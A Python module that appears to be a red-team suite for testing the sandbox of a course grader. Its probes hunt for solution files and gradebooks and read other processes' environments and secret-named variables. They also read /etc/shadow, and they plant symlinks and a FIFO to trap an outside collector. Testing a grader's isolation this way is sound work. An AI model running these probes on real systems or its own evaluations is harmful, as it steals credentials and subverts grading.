"""Attacks that read files: tests, solutions, others' work, the environment, leftovers."""

from functools import partial

from redteam.attack import LAST, LIBC, START, TELL, attack

reading = partial(attack, "reading")

ATTACKS = (
    reading(
        "read-notebooks-anywhere",
        "Walks the file system for notebooks, gradebooks and whatever is named like a solution.",
        honest="double",
        needs=[TELL],
        mean="""
        import os

        wanted = (".ipynb", ".db", ".sqlite", ".db-wal")
        skipped, seen = ("/proc", "/sys", "/dev", "/usr/share"), 0
        for folder, below, names in os.walk("/"):
            below[:] = [one for one in below if os.path.join(folder, one) not in skipped]
            seen += len(names)
            if seen > 400_000:
                break
            for name in names:
                path = os.path.join(folder, name)
                own = "site-packages" in path or ".ipython" in path or "w2s-redteam" in path
                if name.endswith(wanted) and not own:
                    attempt(path, lambda: open(path, "rb").read(64))
        finish()
        """,
    ),
    reading(
        "read-solutions-of-the-course",
        "Looks beside the installed package for the solutions and answers of the course.",
        honest="double",
        needs=[TELL],
        mean="""
        import os, pathlib

        import w2s_lab

        root = pathlib.Path(w2s_lab.__file__).parents[1]
        for name in ("solutions", "exercises", "shared", ".git", "submitted", "source"):
            attempt(f"{name} beside the package", lambda: os.listdir(root / name))
        finish()
        """,
    ),
    reading(
        "read-parents-of-the-folder",
        "Climbs from its working folder and lists what it finds on the way.",
        honest="double",
        mean="""
        import os, pathlib

        found = []
        for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path.home()):
            for name in (folder, folder / "..", folder / "submitted", folder / "source"):
                try:
                    found += [str(name / one) for one in os.listdir(name)]
                except OSError as error:
                    found.append(str(error))


        def mean(values):
            raise ValueError("; ".join(found)[:4000])
        """,
    ),
    reading(
        "read-environments",
        "Reads the environment and the command line of each process for paths and keys.",
        honest="double",
        needs=[TELL],
        mean="""
        import os

        own, secret = os.getpid(), ("TOKEN", "SECRET", "PASSWORD", "_KEY", "SSH_", "AWS_")
        for name in os.environ:
            if any(word in name for word in secret) and not name.startswith("TOKENIZERS_"):
                tell(f"environment variable {name}")
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != own:
                attempt(
                    f"environment of process {entry}",
                    lambda: open(f"/proc/{entry}/environ", "rb").read(),
                    bool,
                )
                attempt(
                    f"command line of process {entry}",
                    lambda: open(f"/proc/{entry}/cmdline", "rb").read(),
                    lambda text: b".ipynb" in text or b"grade" in text,
                )
        finish()
        """,
    ),
    reading(
        "read-mounts-and-links",
        "Reads mount tables, open descriptors' paths, working folders and roots of processes.",
        honest="double",
        needs=[TELL],
        mean="""
        import os

        found = [open("/proc/self/mountinfo").read()]
        for fd in os.listdir("/proc/self/fd"):
            try:
                path = os.readlink(f"/proc/self/fd/{fd}")
            except OSError:
                continue
            found.append(path)
            if path.endswith((".ipynb", ".db", ".csv")):
                tell(f"open descriptor of {path}")
            if os.path.isdir(f"/proc/self/fd/{fd}"):
                for up in ("..", "../..", "../../.."):
                    attempt(
                        f"folder above descriptor {fd}",
                        lambda: os.listdir(f"/proc/self/fd/{fd}/{up}/submitted"),
                    )
        for pid in (1, 2, os.getppid()):
            for link in ("cwd", "root", "exe"):
                try:
                    found.append(os.readlink(f"/proc/{pid}/{link}"))
                    found += os.listdir(f"/proc/{pid}/{link}")
                except OSError:
                    pass
        finish()


        def mean(values):
            raise ValueError(" ".join(found)[:4000])
        """,
    ),
    reading(
        "read-inherited-descriptors",
        "Reads each descriptor that it was born with, except the socket, from its beginning.",
        honest="double",
        needs=[TELL],
        mean="""
        import os, stat

        own = ("/tmp/", "/memfd:", "/dev/shm/", os.path.expanduser("~"), os.getcwd())
        for fd in range(3, 256):
            try:
                mode = os.fstat(fd).st_mode
            except OSError:
                continue
            if stat.S_ISREG(mode):
                attempt(
                    f"a file behind descriptor {fd}",
                    lambda: os.pread(fd, 4096, 0),
                    lambda data: b"HIDDEN" in data or b"nbformat" in data or b"gradebook" in data,
                )
                attempt(
                    f"a writable file behind descriptor {fd}",
                    lambda: os.pwrite(fd, b"w2s-redteam", 1 << 20),
                    lambda written: not os.readlink(f"/proc/self/fd/{fd}").startswith(own),
                )
        finish()
        """,
    ),
    reading(
        "read-leftovers",
        "Looks where it may write for what an earlier submission left, and leaves something.",
        honest="double",
        needs=[TELL, LIBC],
        extra=[
            (
                START,
                """
                import glob, os, pathlib

                places = ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), ".")
                for place in places:
                    for name in glob.glob(os.path.join(place, "*w2s-redteam-left*")):
                        tell(f"left by another: {name}")
                for place in places:
                    try:
                        pathlib.Path(place, f"w2s-redteam-left-{os.getpid()}").write_text("here")
                    except OSError:
                        pass
                finish()
                """,
            ),
        ],
    ),
    reading(
        "read-leftover-shared-memory",
        "Looks for SysV and POSIX shared memory, semaphores and queues of others, and leaves some.",
        honest="double",
        needs=[TELL, LIBC],
        extra=[
            (
                START,
                """
                key = 0x77327301
                attempt("a segment of another", lambda: syscall(29, key, 4096, 0))
                attempt("a semaphore of another", lambda: syscall(64, key, 1, 0))
                attempt("a queue of another", lambda: syscall(68, key, 0))
                for number in (29, 64, 68):
                    try:
                        if number == 68:
                            syscall(number, key, 0o1666)
                        else:
                            syscall(number, key, 4096 if number == 29 else 1, 0o1666)
                    except OSError:
                        pass
                try:
                    queue = syscall(240, b"w2s-redteam-queue", 0, 0, None)
                    tell("a POSIX queue of another")
                except OSError:
                    try:
                        syscall(240, b"w2s-redteam-queue", 0o100 | 2, 0o666, None)
                    except OSError:
                        pass
                finish()
                """,
            ),
        ],
    ),
    reading(
        "read-kernel-keyring",
        "Keeps a word in the kernel's keyrings, and looks for one of an earlier submission.",
        honest="double",
        needs=[TELL, LIBC],
        extra=[
            (
                START,
                """
                for ring in (-1, -2, -3, -4, -5):
                    attempt(
                        f"keyring {ring}",
                        lambda: syscall(248, b"user", b"w2s-redteam-key", b"word", 4, ring),
                    )
                    attempt(
                        f"search of keyring {ring}",
                        lambda: syscall(250, 10, ring, b"user", b"w2s-redteam-key", 0),
                    )
                finish()
                """,
            ),
        ],
    ),
    reading(
        "read-machine",
        "Reads what tells machines and people apart: host name, users, addresses, hardware.",
        honest="double",
        mean="""
        import glob, os, socket

        found = [socket.gethostname(), repr(os.uname())]
        for path in (
            "/etc/passwd",
            "/etc/shadow",
            "/etc/hostname",
            "/etc/machine-id",
            "/proc/version",
            "/proc/net/unix",
            "/proc/net/tcp",
            "/proc/self/cgroup",
            "/proc/keys",
            "/proc/1/sched",
            *(name for home in ("/home/*", "/root") for name in glob.glob(home + "/.*")[:20]),
        ):
            try:
                found.append(path + ": " + open(path).read(2000))
            except OSError:
                pass


        def mean(values):
            raise ValueError("; ".join(found)[:4000])
        """,
    ),
    reading(
        "read-abstract-sockets",
        "Connects to each abstract and named socket that /proc/net/unix lists.",
        honest="double",
        needs=[TELL],
        mean="""
        import socket

        try:
            lines = open("/proc/net/unix").read().splitlines()[1:200]
        except OSError:
            lines = []
        for line in lines:
            name = line.split()[-1]
            if name[0] in "@/":
                line = socket.socket(socket.AF_UNIX)
                line.settimeout(1)
                attempt(
                    f"socket {name}",
                    lambda: line.connect(name.replace("@", chr(0), 1)) is None,
                )
                line.close()
        finish()
        """,
    ),
    reading(
        "read-symlinks-for-the-judge",
        "Replaces files where it may write by links to others, for a collector outside to follow.",
        honest="double",
        extra=[
            (
                LAST,
                """
                import os

                for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()):
                    for name, target in (
                        ("w2s-redteam-link", "/etc/passwd"),
                        ("w2s-redteam-up", "../../../../../../etc"),
                        ("w2s-redteam-root", "/proc/1/root"),
                    ):
                        try:
                            os.symlink(target, os.path.join(folder, name))
                        except OSError:
                            pass
                    try:
                        os.mkfifo(os.path.join(folder, "w2s-redteam-fifo.ipynb"))
                    except OSError:
                        pass
                """,
            )
        ],
    ),
)
